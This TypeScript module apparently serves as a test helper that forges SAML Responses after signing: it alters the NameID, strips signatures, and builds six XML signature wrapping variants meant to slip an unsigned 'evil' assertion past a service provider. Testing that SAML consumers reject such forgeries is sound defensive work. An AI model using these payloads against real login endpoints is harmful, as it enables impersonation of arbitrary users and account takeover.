import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/**
 * What an attacker does to a SAML Response after the identity provider signed it. Each helper
 * takes the signed XML and returns the base64 SAMLResponse to post. Used with ./saml-idp.ts.
 */

const SAMLP = 'urn:oasis:names:tc:SAML:2.0:protocol';
const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DSIG = 'http://www.w3.org/2000/09/xmldsig#';

export const toBase64 = (xml: string) => Buffer.from(xml, 'utf8').toString('base64');

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml') as unknown as Document;
}

function serialize(doc: Document): string {
  return new XMLSerializer().serializeToString(doc as any);
}

function child(parent: Element, ns: string, name: string): Element {
  for (let n = parent.firstChild; n; n = n.nextSibling) {
    if (n.nodeType === 1 && (n as Element).localName === name && (n as Element).namespaceURI === ns) return n as Element;
  }
  throw new Error(`no ${name} under ${parent.localName}`);
}

function setNameId(assertion: Element, nameId: string): void {
  const el = child(child(assertion, SAML, 'Subject'), SAML, 'NameID');
  while (el.firstChild) el.removeChild(el.firstChild);
  el.appendChild(assertion.ownerDocument.createTextNode(nameId));
}

function removeSignature(el: Element): void {
  for (let n = el.firstChild; n; n = n.nextSibling) {
    if (n.nodeType === 1 && (n as Element).localName === 'Signature' && (n as Element).namespaceURI === DSIG) {
      el.removeChild(n);
      return;
    }
  }
}

/** The NameID changed after signing (the digest no longer matches). */
export function editNameId(signedXml: string, nameId: string): string {
  const doc = parse(signedXml);
  setNameId(child(doc.documentElement, SAML, 'Assertion'), nameId);
  return toBase64(serialize(doc));
}

/** Every signature removed. */
export function stripSignatures(signedXml: string): string {
  const doc = parse(signedXml);
  removeSignature(child(doc.documentElement, SAML, 'Assertion'));
  removeSignature(doc.documentElement);
  return toBase64(serialize(doc));
}

export type WrappingAttack =
  /** An unsigned evil assertion next to the signed one. */
  | 'sibling'
  /** The signed assertion moved into samlp:Extensions; an unsigned evil one in its place. */
  | 'extensions'
  /** As 'extensions', and the evil assertion carries a copy of the real Signature element. */
  | 'extensions-copied-signature'
  /** The evil assertion takes the signed one's ID and Signature; the original hides in Extensions. */
  | 'same-id'
  /** The evil assertion contains the signed one inside saml:Advice. */
  | 'advice'
  /** For a signed Response: a new unsigned Response with an evil assertion wraps the original. */
  | 'response';

/** XML signature wrapping: the signed content stays intact somewhere, an evil copy is read. */
export function wrapSignature(signedXml: string, attack: WrappingAttack, evilNameId: string): string {
  const doc = parse(signedXml);
  const response = doc.documentElement;
  const original = child(response, SAML, 'Assertion');
  const evil = original.cloneNode(true) as Element;
  setNameId(evil, evilNameId);
  if (attack !== 'extensions-copied-signature' && attack !== 'same-id') removeSignature(evil);
  if (attack !== 'same-id') evil.setAttribute('ID', `${original.getAttribute('ID')}-evil`);

  const extensions = () => {
    const ext = doc.createElementNS(SAMLP, 'samlp:Extensions');
    response.insertBefore(ext, child(response, SAMLP, 'Status'));
    return ext;
  };

  switch (attack) {
    case 'sibling':
      response.insertBefore(evil, original);
      break;
    case 'extensions':
    case 'extensions-copied-signature':
    case 'same-id':
      response.replaceChild(evil, original);
      extensions().appendChild(original);
      break;
    case 'advice': {
      response.replaceChild(evil, original);
      const advice = doc.createElementNS(SAML, 'saml:Advice');
      evil.insertBefore(advice, child(evil, SAML, 'Conditions').nextSibling);
      advice.appendChild(original);
      break;
    }
    case 'response': {
      const outer = response.cloneNode(false) as Element;
      outer.setAttribute('ID', `${response.getAttribute('ID')}-evil`);
      outer.appendChild(child(response, SAML, 'Issuer').cloneNode(true));
      const ext = doc.createElementNS(SAMLP, 'samlp:Extensions');
      outer.appendChild(ext);
      outer.appendChild(child(response, SAMLP, 'Status').cloneNode(true));
      removeSignature(evil);
      outer.appendChild(evil);
      doc.replaceChild(outer, response);
      ext.appendChild(response);
      break;
    }
  }
  return toBase64(serialize(doc));
}
